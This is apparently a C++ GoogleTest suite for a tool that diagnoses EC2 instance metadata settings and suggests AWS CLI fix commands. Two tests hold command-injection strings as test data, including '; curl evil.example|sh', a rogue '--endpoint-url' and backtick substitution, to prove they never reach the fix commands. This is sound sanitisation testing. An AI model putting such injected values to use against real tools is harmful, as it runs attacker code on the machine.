// Findings: what is wrong, how bad, and the exact command that fixes it.
#include <gtest/gtest.h>

#include <algorithm>

#include "builders.hpp"
#include "expect.hpp"
#include "findings.hpp"
#include "inference.hpp"
#include "render.hpp"

namespace imds {
namespace {

using namespace imds::test;

bool contains(const std::string& haystack, std::string_view needle) {
  return haystack.find(needle) != std::string::npos;
}

Diagnosis with_expectations(Diagnosis d, std::initializer_list<const char*> expectations) {
  for (const char* text : expectations) {
    EXPECT_TRUE(parse_expectation(text, d.expectations).ok()) << text;
  }
  return finish(std::move(d));
}

TEST(Findings, HealthyInstanceHasNoWarningsAndExitsZero) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  for (const auto& f : d.findings) {
    EXPECT_LT(f.severity, Severity::warning) << f.id << ": " << f.summary;
  }
  EXPECT_TRUE(is_healthy(d));
  EXPECT_EQ(exit_code(d), kExitHealthy);
}

TEST(Findings, NamespacesLeftOutOfARunAreAWarningThatSaysHowManyAndWhen) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  ASSERT_TRUE(is_healthy(d));
  d.discovery_truncated = DiscoveryTruncation{5000, 905, true};
  d = finish(std::move(d));
  const Finding* cut = find_finding(d, "discovery-truncated");
  ASSERT_NE(cut, nullptr);
  EXPECT_EQ(cut->severity, Severity::warning);
  EXPECT_TRUE(contains(cut->summary, "found 5000 network namespaces")) << cut->summary;
  EXPECT_TRUE(contains(cut->summary, "905 of them are not probed in this cycle")) << cut->summary;
  EXPECT_TRUE(contains(cut->detail, "at most 4095")) << cut->detail;
  EXPECT_TRUE(contains(cut->detail, "later cycles")) << cut->detail;
  EXPECT_FALSE(is_healthy(d)) << "a run that could not look at everything is not healthy";

  d.discovery_truncated = DiscoveryTruncation{70000, 65000, false};  // imds-probe's run
  d = finish(std::move(d));
  cut = find_finding(d, "discovery-truncated");
  ASSERT_NE(cut, nullptr);
  EXPECT_TRUE(contains(cut->summary, "not probed in this run")) << cut->summary;
  EXPECT_TRUE(contains(cut->detail, "imds-probe probes at most 5000")) << cut->detail;

  d.discovery_truncated = DiscoveryTruncation{10, 0, true};
  d = finish(std::move(d));
  EXPECT_EQ(find_finding(d, "discovery-truncated"), nullptr);
}

TEST(Findings, WhatDiscoveryCouldNotSeeIsAWarningPerDirectoryNeverHealthy) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  d.targets[1].target.source = TargetSource::netns_dir;
  DiscoveryLook look;
  NetnsDirLook fine;
  fine.dir = "/run/netns";
  fine.state = NetnsDirLook::State::read;
  fine.entries = 1;
  fine.usable = 1;
  look.dirs = {fine};
  d.discovery = look;
  d = finish(std::move(d));
  ASSERT_TRUE(is_healthy(d)) << "a discovery that saw everything adds nothing";
  EXPECT_EQ(find_finding(d, "discovery-blind"), nullptr);

  NetnsDirLook stale;
  stale.dir = "/var/run/netns";
  stale.state = NetnsDirLook::State::read;
  stale.entries = 3;
  stale.usable = 1;
  stale.unusable.at(static_cast<std::size_t>(EntryProblem::dangling_link)) = 1;
  stale.unusable.at(static_cast<std::size_t>(EntryProblem::permission_denied)) = 1;
  stale.examples = {"old", "locked"};
  NetnsDirLook locked;
  locked.dir = "/run/docker/netns";
  locked.state = NetnsDirLook::State::unreadable;
  locked.error = "Permission denied";
  look.dirs = {fine, stale, locked};
  look.unlisted_container_processes = 3;
  look.unlisted_container_namespaces = 2;
  d.discovery = look;
  d = finish(std::move(d));
  EXPECT_FALSE(is_healthy(d));
  EXPECT_EQ(exit_code(d), 1);
  std::vector<const Finding*> blind;
  for (const auto& f : d.findings) {
    if (f.id == "discovery-blind") blind.push_back(&f);
  }
  ASSERT_EQ(blind.size(), 2U);
  EXPECT_EQ(blind[0]->severity, Severity::warning);
  EXPECT_TRUE(contains(blind[0]->summary, "/var/run/netns: 2 of 3 entries")) << blind[0]->summary;
  EXPECT_TRUE(contains(blind[0]->summary, "1 dangling link, 1 permission denied"))
      << blind[0]->summary;
  EXPECT_TRUE(contains(blind[0]->detail, "old, locked")) << blind[0]->detail;
  EXPECT_TRUE(contains(blind[0]->fix, "sudo")) << blind[0]->fix;
  EXPECT_TRUE(contains(blind[1]->summary, "cannot read /run/docker/netns: Permission denied"))
      << blind[1]->summary;
  const Finding* unlisted = find_finding(d, "discovery-unlisted-containers");
  ASSERT_NE(unlisted, nullptr);
  EXPECT_EQ(unlisted->severity, Severity::warning);
  EXPECT_TRUE(contains(unlisted->summary, "3 processes of containers run in 2 network namespaces"))
      << unlisted->summary;
  EXPECT_TRUE(contains(unlisted->fix, "--no-proc-scan")) << unlisted->fix;
  EXPECT_EQ(find_finding(d, "discovery-runtime-without-containers"), nullptr)
      << "no runtime socket in this look";
}

TEST(Findings, StaleEntriesAreANoticeAndNeverMakeARunUnhealthy) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  d.targets[1].target.source = TargetSource::netns_dir;
  NetnsDirLook dir;
  dir.dir = "/run/docker/netns";
  dir.state = NetnsDirLook::State::read;
  dir.entries = 3;
  dir.usable = 1;
  dir.unusable.at(static_cast<std::size_t>(EntryProblem::stale)) = 2;
  DiscoveryLook look;
  look.dirs = {dir};
  d.discovery = look;
  d = finish(std::move(d));
  EXPECT_TRUE(is_healthy(d)) << "a removed container's file hides nothing";
  EXPECT_EQ(find_finding(d, "discovery-blind"), nullptr);
  const Finding* stale = find_finding(d, "discovery-stale-entries");
  ASSERT_NE(stale, nullptr);
  EXPECT_EQ(stale->severity, Severity::notice);
  EXPECT_TRUE(contains(stale->summary, "/run/docker/netns: 2 empty files")) << stale->summary;
  EXPECT_TRUE(contains(stale->fix, "rslave")) << stale->fix;

  // Beside a hidden one, the hidden one still counts (and only it).
  dir.unusable.at(static_cast<std::size_t>(EntryProblem::not_mounted_here)) = 1;
  dir.entries = 4;
  look.dirs = {dir};
  d.discovery = look;
  d = finish(std::move(d));
  EXPECT_FALSE(is_healthy(d));
  const Finding* blind = find_finding(d, "discovery-blind");
  ASSERT_NE(blind, nullptr);
  EXPECT_TRUE(contains(blind->summary, "1 of 4 entries")) << blind->summary;
}

TEST(Findings, OptionalTokensAreAWarningWithTheFilledInFixAndTheAmiRoute) {
  World w;
  w.hop_limit = 2;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  const Finding* f = find_finding(d, "tokens-optional");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_TRUE(contains(f->summary, "SSRF")) << f->summary;
  // Hop limit 2 already serves the container: the fix only switches tokens.
  EXPECT_TRUE(contains(f->fix,
                       "aws ec2 modify-instance-metadata-options --instance-id i-0123456789abcdef0 "
                       "--region us-east-1 --http-tokens required --http-endpoint enabled\n"))
      << f->fix;
  EXPECT_TRUE(contains(f->fix,
                       "aws ec2 modify-image-attribute --image-id ami-0abcdef1234567890 "
                       "--region us-east-1 --imds-support v2.0"))
      << f->fix;
  EXPECT_TRUE(contains(f->fix, "aws ec2 register-image ... --imds-support v2.0")) << f->fix;
  EXPECT_EQ(exit_code(d), kExitFindings);
}

TEST(Findings, SwitchingToRequiredAlsoRaisesTheHopLimitTheContainersNeed) {
  World w;  // optional, hop limit 1
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}, {"dind", 2}});
  const Finding* f = find_finding(d, "tokens-optional");
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(contains(f->fix,
                       "--http-tokens required --http-put-response-hop-limit 3 "
                       "--http-endpoint enabled"))
      << f->fix;
}

TEST(Findings, RequiredTokensAndHopLimitOneMakeBridgeContainersAnErrorWithSdkConsequences) {
  World w;
  w.tokens = HttpTokens::required;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  const Finding* f = find_finding(d, "container-no-token", "c1");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::error);
  EXPECT_TRUE(contains(f->detail, "get 401")) << f->detail;
  for (const char* sdk : {"botocore", "Go SDK v2", "JS SDK v3", "Java SDK v2"}) {
    EXPECT_TRUE(contains(f->detail, sdk)) << sdk;
  }
  EXPECT_TRUE(contains(f->detail, "Predicted")) << f->detail;
  EXPECT_TRUE(contains(f->fix,
                       "--instance-id i-0123456789abcdef0 --region us-east-1 "
                       "--http-put-response-hop-limit 2 --http-endpoint enabled"))
      << f->fix;
  EXPECT_FALSE(is_healthy(d));
}

TEST(Findings, OptionalTokensMakeBridgeContainersAWarningAboutSlowFallback) {
  World w;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  const Finding* f = find_finding(d, "container-no-token", "c1");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_TRUE(contains(f->detail, "fall back to IMDSv1")) << f->detail;
  EXPECT_TRUE(contains(f->detail, "about 4 s")) << f->detail;
  EXPECT_FALSE(contains(f->detail, "get 401")) << f->detail;
}

TEST(Findings, UnknownTokensDescribeBothSdkOutcomes) {
  World w;
  w.probe_v1 = false;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  const Finding* f = find_finding(d, "container-no-token", "c1");
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(contains(f->detail, "If HttpTokens is optional")) << f->detail;
  EXPECT_TRUE(contains(f->detail, "If it is required")) << f->detail;
}

TEST(Findings, ContainerWithoutMeasuredDistanceGetsTheBridgeFixAndACaveat) {
  World w;
  w.packet_ttl = false;
  w.tokens = HttpTokens::required;
  const Diagnosis d =
      finish(diagnosis({observe_host(w), observe(w, target("c1", std::nullopt))}, w));
  const Finding* f = find_finding(d, "container-no-token", "c1");
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(contains(f->fix, "--http-put-response-hop-limit 2")) << f->fix;
  EXPECT_TRUE(contains(f->detail, "distance could not be measured")) << f->detail;
}

TEST(Findings, FailingContainerOfUnknownDistanceIsToldToGoAboveTheCurrentHopLimit) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  w.packet_ttl = false;
  Diagnosis d = diagnosis({observe_host(w), observe(w, target("dind", std::nullopt))}, w);
  // observe() puts a container without distance 1 hop away; make it fail like 2 hops.
  for (auto& o : d.targets[1].observations) {
    if (o.step == Step::token_put) o.result = failed(Outcome::timeout, true);
    if (o.step == Step::v2_get || o.step == Step::listing) o.result = skipped(SkipReason::no_token);
  }
  d.searched_hop_limit = 2;
  d = finish(std::move(d));
  const Finding* f = find_finding(d, "container-no-token", "dind");
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(contains(f->fix, "--http-put-response-hop-limit 3")) << f->fix;
}

TEST(Findings, DockerInDockerNeedsHopLimitThree) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}, {"dind", 2}});
  EXPECT_EQ(find_finding(d, "container-no-token", "c1"), nullptr);
  const Finding* f = find_finding(d, "container-no-token", "dind");
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(contains(f->fix, "--http-put-response-hop-limit 3")) << f->fix;
  // The AMI route gives 2, which would not help here.
  EXPECT_FALSE(contains(f->fix, "imds-support")) << f->fix;
}

TEST(Findings, HopLimitLargerThanTheDeepestContainerNeedsIsANotice) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 5;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  const Finding* f = find_finding(d, "hop-limit-excess");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::notice);
  EXPECT_TRUE(contains(f->summary, "hop limit 5")) << f->summary;
  EXPECT_TRUE(contains(f->fix, "--http-put-response-hop-limit 2")) << f->fix;
  EXPECT_TRUE(is_healthy(d));
}

TEST(Findings, ContainersOfUnknownDistanceForbidCallingTheHopLimitExcessive) {
  // Exact hop limit 3 from the IP_MINTTL search; the containers' distances are unknown
  // (no packet sockets), and one of them may well be Docker-in-Docker.
  World w;
  w.tokens = HttpTokens::optional;
  w.hop_limit = 3;
  w.packet_ttl = false;
  Diagnosis d = diagnosis({observe_host(w), observe(w, target("c1", std::nullopt)),
                           observe(w, target("c2", std::nullopt))},
                          w);
  d.searched_hop_limit = 3;
  d = finish(std::move(d));
  EXPECT_EQ(find_finding(d, "hop-limit-excess"), nullptr);
  // Switching tokens to required keeps the hop limit they work with.
  const Finding* f = find_finding(d, "tokens-optional");
  ASSERT_NE(f, nullptr);
  EXPECT_FALSE(contains(f->fix, "--http-put-response-hop-limit")) << f->fix;
}

TEST(Findings, HopLimitTwoWithoutContainersIsNotExcess) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  EXPECT_EQ(find_finding(world_diagnosis(w), "hop-limit-excess"), nullptr);
  w.hop_limit = 3;
  EXPECT_NE(find_finding(world_diagnosis(w), "hop-limit-excess"), nullptr);
}

TEST(Findings, MalformedInstanceIdNeverReachesFixCommand) {
  World w;
  w.instance_id = "i-0123456789abcdef0 --dry-run; curl evil.example|sh";
  w.region = "us-east-1 --endpoint-url http://evil.example";
  w.ami_id = "ami-0abcdef1234567890`id`";
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  ASSERT_FALSE(d.findings.empty());
  bool any_fix = false;
  for (const auto& f : d.findings) {
    if (f.fix.empty()) continue;
    any_fix = true;
    EXPECT_FALSE(contains(f.fix, "evil")) << f.fix;
    EXPECT_FALSE(contains(f.fix, "`")) << f.fix;
    if (contains(f.fix, "modify-instance-metadata-options")) {
      EXPECT_TRUE(contains(f.fix, "--instance-id <instance-id> --region <region>")) << f.fix;
    }
    if (contains(f.fix, "modify-image-attribute")) {
      EXPECT_TRUE(contains(f.fix, "--image-id <ami-id>")) << f.fix;
    }
  }
  EXPECT_TRUE(any_fix);
}

TEST(Findings, AForgedInferenceCannotSmuggleTextIntoFixCommands) {
  World w;
  Diagnosis d = diagnosis({observe_host(w)}, w);
  d.inference = infer(d);
  d.inference.instance.instance_id = "i-01234567; reboot";
  d.findings = make_findings(d);
  const Finding* f = find_finding(d, "tokens-optional");
  ASSERT_NE(f, nullptr);
  EXPECT_FALSE(contains(f->fix, "reboot")) << f->fix;
}

TEST(Findings, RefusedHostMeansNotOnEc2AndExitsThree) {
  Diagnosis d = finish(diagnosis({cut_off(host_target(), Outcome::refused)}));
  const Finding* f = find_finding(d, "endpoint-unreachable");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::error);
  EXPECT_TRUE(contains(f->detail, "not an EC2 instance")) << f->detail;
  EXPECT_EQ(exit_code(d), kExitUnreachable);
  // Nothing else can be said about options that could not be observed.
  EXPECT_EQ(find_finding(d, "tokens-optional"), nullptr);
  EXPECT_EQ(find_finding(d, "container-no-token"), nullptr);
}

TEST(Findings, BlackholeAndFirewallAreNamedAsSuch) {
  Diagnosis d = finish(diagnosis({cut_off(host_target(), Outcome::unreachable)}));
  EXPECT_TRUE(contains(find_finding(d, "endpoint-unreachable")->detail, "blackhole"));
  d = finish(diagnosis({cut_off(host_target(), Outcome::timeout)}));
  EXPECT_TRUE(contains(find_finding(d, "endpoint-unreachable")->detail, "firewall DROP"));
  EXPECT_EQ(exit_code(d), kExitUnreachable);
}

TEST(Findings, DisabledEndpointIsAWarningWithTheCommandToEnableIt) {
  World w;
  w.endpoint_enabled = false;
  const Diagnosis d = world_diagnosis(w, {{"c1", 1}});
  const Finding* f = find_finding(d, "endpoint-disabled");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_TRUE(contains(f->fix, "--http-endpoint enabled")) << f->fix;
  EXPECT_EQ(find_finding(d, "container-no-token"), nullptr);
  EXPECT_EQ(exit_code(d), kExitFindings);
}

TEST(Findings, ExpectedDisabledEndpointIsOnlyInformation) {
  World w;
  w.endpoint_enabled = false;
  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"endpoint=disabled"});
  EXPECT_EQ(find_finding(d, "endpoint-disabled")->severity, Severity::info);
  EXPECT_EQ(find_finding(d, "policy-endpoint"), nullptr);
  EXPECT_EQ(exit_code(d), kExitHealthy);
}

TEST(Findings, BlackholedContainerIsANoticeNotAFailure) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  const Diagnosis d =
      finish(diagnosis({observe_host(w), cut_off(target("task", 1), Outcome::unreachable)}, w));
  const Finding* f = find_finding(d, "container-unreachable", "task");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::notice);
  EXPECT_EQ(find_finding(d, "container-no-token", "task"), nullptr);
  EXPECT_TRUE(is_healthy(d));
}

TEST(Findings, ProxyVariableWithoutNoProxyIsFlaggedWithTheExport) {
  Diagnosis d = diagnosis({observe_host(World{})});
  d.proxy.variable = "https_proxy";
  d = finish(std::move(d));
  const Finding* f = find_finding(d, "proxy-captures-imds");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_TRUE(contains(f->fix, "export no_proxy=\"169.254.169.254,fd00:ec2::254")) << f->fix;
  EXPECT_EQ(d.inference.proxy_warnings, std::vector<std::string>{"https_proxy"});

  d.proxy.no_proxy_covers_imds = true;
  d = finish(std::move(d));
  EXPECT_EQ(find_finding(d, "proxy-captures-imds"), nullptr);
}

TEST(Findings, ThrottledAnswersAreReportedAndTheEndpointStillCountsAsEnabled) {
  World w;
  TargetObservations host = observe_host(w);
  host.observations.push_back(observation(Step::v1_get, http(429)));
  host.observations.push_back(observation(Step::v1_get, http(503)));
  const Diagnosis d = finish(diagnosis({std::move(host)}, w));
  EXPECT_EQ(d.inference.endpoint, EndpointState::enabled);
  const Finding* f = find_finding(d, "throttled");
  ASSERT_NE(f, nullptr);
  EXPECT_TRUE(contains(f->summary, "2 of")) << f->summary;
}

TEST(Findings, RequestsCutByTheDeadlineMakeTheRunIncompleteNotHealthy) {
  World w;
  TargetObservations host = observe_host(w);
  TargetObservations late = target("c1", 1);
  HttpResult not_started;
  not_started.outcome = Outcome::skipped;
  not_started.skip = SkipReason::not_started;
  late.observations.push_back(observation(Step::token_put, not_started));
  HttpResult cut = failed(Outcome::timeout, true);
  cut.error = "overall deadline of 8000 ms reached";
  cut.cut_by_deadline = true;
  late.observations.push_back(observation(Step::v1_get, cut));
  const Diagnosis d = finish(diagnosis({std::move(host), std::move(late)}, w));
  const Finding* f = find_finding(d, "run-incomplete");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_TRUE(contains(f->summary, "2 request(s)")) << f->summary;
  EXPECT_FALSE(is_healthy(d));
}

TEST(Findings, HostWithoutTokenIsAnErrorThatBlamesNotTheHopLimit) {
  TargetObservations host = host_target();
  host.observations.push_back(observation(Step::token_put, failed(Outcome::timeout, true)));
  host.observations.push_back(observation(Step::v1_get, http(401)));
  const Diagnosis d = finish(diagnosis({std::move(host)}));
  const Finding* f = find_finding(d, "host-no-token");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::error);
  EXPECT_TRUE(contains(f->detail, "cannot cause this")) << f->detail;
}

TEST(Findings, ThrottledHostIsOnlyAWarning) {
  TargetObservations host = host_target();
  host.observations.push_back(observation(Step::token_put, token(1)));
  host.observations.push_back(observation(Step::v2_get, http(503)));
  const Diagnosis d = finish(diagnosis({std::move(host)}));
  const Finding* f = find_finding(d, "host-no-token");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_EQ(f->summary,
            "IMDSv2 fails in the host namespace: token received, but the GET with it failed: "
            "HTTP 503");
  EXPECT_NE(find_finding(d, "throttled"), nullptr);
}

TEST(Findings, FindingsComeWorstFirst) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 5;
  w.probe_v1 = false;
  Diagnosis d = diagnosis({observe_host(w), observe_container(w, "c1", 1)}, w);
  d.proxy.variable = "http_proxy";
  d = finish(std::move(d));
  ASSERT_GE(d.findings.size(), 3u);
  EXPECT_TRUE(
      std::is_sorted(d.findings.begin(), d.findings.end(),
                     [](const Finding& a, const Finding& b) { return a.severity > b.severity; }));
}

// ---- Policy ----

TEST(Policy, ExpectImdsSupportV2FlagsHopLimitOne) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 1;
  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"imds-support=v2.0"});
  const Finding* f = find_finding(d, "policy-hop-limit");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::error);
  EXPECT_TRUE(contains(f->summary, "hop limit is 1 (packet TTL), expected 2")) << f->summary;
  EXPECT_TRUE(contains(f->fix, "--http-put-response-hop-limit 2")) << f->fix;
  EXPECT_EQ(find_finding(d, "policy-http-tokens"), nullptr);
  EXPECT_EQ(exit_code(d), kExitFindings);
}

TEST(Policy, ExpectImdsSupportV2IsMetByRequiredAndHopLimitTwo) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"imds-support=v2.0"});
  EXPECT_TRUE(is_healthy(d));
}

TEST(Policy, ExpectRequiredTokensFlagsOptionalWithTheFix) {
  World w;
  w.hop_limit = 2;
  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"http-tokens=required"});
  const Finding* f = find_finding(d, "policy-http-tokens");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::error);
  EXPECT_TRUE(contains(f->fix, "--http-tokens required")) << f->fix;
}

TEST(Policy, ExpectedOptionalTokensTurnTheSsrfWarningIntoANotice) {
  World w;
  w.hop_limit = 2;
  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"http-tokens=optional"});
  EXPECT_EQ(find_finding(d, "tokens-optional")->severity, Severity::notice);
  EXPECT_TRUE(is_healthy(d));
}

TEST(Policy, ExpectRequiredWithoutV1ProbeCannotBeVerified) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  w.probe_v1 = false;
  const Diagnosis d = with_expectations(diagnosis({observe_host(w)}, w), {"http-tokens=required"});
  const Finding* f = find_finding(d, "policy-http-tokens");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_TRUE(contains(f->summary, "cannot verify")) << f->summary;
  EXPECT_TRUE(contains(f->detail, "--no-v1")) << f->detail;
}

TEST(Policy, LowerBoundFromAContainerSatisfiesAtLeastTwo) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 3;
  w.packet_ttl = false;
  Diagnosis d = diagnosis({observe_host(w), observe_container(w, "c1", 1)}, w);
  d = with_expectations(std::move(d), {"hop-limit=>=2"});
  EXPECT_EQ(find_finding(d, "policy-hop-limit"), nullptr);
}

TEST(Policy, LowerBoundAloneCannotVerifyAnExactHopLimit) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 3;
  w.packet_ttl = false;
  Diagnosis d = diagnosis({observe_host(w), observe_container(w, "c1", 1)}, w);
  d = with_expectations(std::move(d), {"hop-limit=2"});
  const Finding* f = find_finding(d, "policy-hop-limit");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::warning);
  EXPECT_TRUE(contains(f->detail, ">=2 (bounds)")) << f->detail;
}

TEST(Policy, UpperBoundBelowTheMinimumIsAMismatchEvenWithoutExactValue) {
  World w;
  w.packet_ttl = false;  // hop limit 1, proven <= 1 by the container's timed-out PUT
  Diagnosis d = diagnosis({observe_host(w), observe_container(w, "c1", 1)}, w);
  d = with_expectations(std::move(d), {"hop-limit=>=2"});
  const Finding* f = find_finding(d, "policy-hop-limit");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::error);
}

TEST(Policy, UnknownIpv6AndTagsCannotBeVerifiedAndMismatchesAreErrors) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 2;
  Diagnosis d = diagnosis({observe_host(w)}, w);
  d = with_expectations(std::move(d), {"ipv6=enabled", "tags=enabled"});
  const Finding* ipv6 = find_finding(d, "policy-ipv6");
  ASSERT_NE(ipv6, nullptr);
  EXPECT_EQ(ipv6->severity, Severity::error);
  EXPECT_TRUE(contains(ipv6->fix, "--http-protocol-ipv6 enabled")) << ipv6->fix;
  const Finding* tags = find_finding(d, "policy-tags");
  ASSERT_NE(tags, nullptr);
  EXPECT_TRUE(contains(tags->fix, "--instance-metadata-tags enabled")) << tags->fix;

  TargetObservations host = host_target();
  host.observations.push_back(observation(Step::token_put, token(2)));
  Diagnosis unknown = diagnosis({std::move(host)});
  unknown = with_expectations(std::move(unknown), {"ipv6=enabled", "tags=disabled"});
  EXPECT_EQ(find_finding(unknown, "policy-ipv6")->severity, Severity::warning);
  EXPECT_EQ(find_finding(unknown, "policy-tags")->severity, Severity::warning);
}

TEST(Policy, UnreachableEndpointCannotVerifyAnything) {
  Diagnosis d = diagnosis({cut_off(host_target(), Outcome::refused)});
  d = with_expectations(std::move(d), {"imds-support=v2.0", "endpoint=enabled"});
  for (const char* id : {"policy-http-tokens", "policy-hop-limit", "policy-endpoint"}) {
    const Finding* f = find_finding(d, id);
    ASSERT_NE(f, nullptr) << id;
    EXPECT_EQ(f->severity, Severity::warning) << id;
    EXPECT_TRUE(contains(f->summary, "cannot verify")) << f->summary;
  }
  EXPECT_EQ(exit_code(d), kExitUnreachable);
}

}  // namespace
}  // namespace imds

namespace imds::test {
namespace {

TEST(Findings, TwoHundredBrokenContainersAreOneFindingThatListsThemAll) {
  World w;
  w.tokens = HttpTokens::required;
  w.hop_limit = 1;
  std::vector<std::pair<std::string, int>> containers;
  containers.reserve(200);
  for (int i = 0; i < 200; ++i) containers.emplace_back("c" + std::to_string(i), 1);
  const Diagnosis d = world_diagnosis(w, containers);
  std::size_t no_token = 0;
  for (const auto& f : d.findings) no_token += f.id == "container-no-token" ? 1 : 0;
  EXPECT_EQ(no_token, 1U);
  const Finding* f = find_finding(d, "container-no-token");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->subjects.size(), 200U);
  EXPECT_TRUE(f->summary.starts_with("200 namespaces: no IMDSv2 token")) << f->summary;
  EXPECT_EQ(f->subjects.front().name, "c0");
  EXPECT_EQ(f->subjects.front().distance, 1);
  EXPECT_LE(d.findings.size(), 5U);

  const std::string text = render_text(d, false);
  std::size_t lines = 0;
  for (char c : text) lines += c == '\n' ? 1 : 0;
  // The headline, the instance, "targets:", 201 namespaces, and a handful of findings.
  EXPECT_LT(lines, 201U + 40U) << text.substr(text.find("findings:"));
  EXPECT_NE(text.find("namespaces: c0 (1 hop), c1 (1 hop)"), std::string::npos);
  EXPECT_NE(text.find("and 188 more"), std::string::npos);
  // The SDK explanation once, not once per container.
  std::size_t explained = 0;
  for (auto at = text.find("botocore/boto3/AWS CLI 1 s"); at != std::string::npos;
       at = text.find("botocore/boto3/AWS CLI 1 s", at + 1)) {
    ++explained;
  }
  EXPECT_EQ(explained, 1U);
}

}  // namespace
}  // namespace imds::test
